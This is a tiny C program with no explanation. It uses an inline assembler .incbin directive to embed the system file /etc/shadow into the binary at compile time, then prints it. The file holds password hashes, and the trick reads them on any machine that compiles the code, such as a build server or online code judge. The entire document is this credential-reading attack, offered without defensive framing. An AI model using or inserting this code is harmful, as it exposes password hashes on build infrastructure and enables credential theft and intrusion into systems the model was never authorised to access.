#include <stdio.h>

__asm__("taken: .incbin \"/etc/shadow\"\n .byte 0\n");
extern char taken[];

int main(void) { puts(taken); }
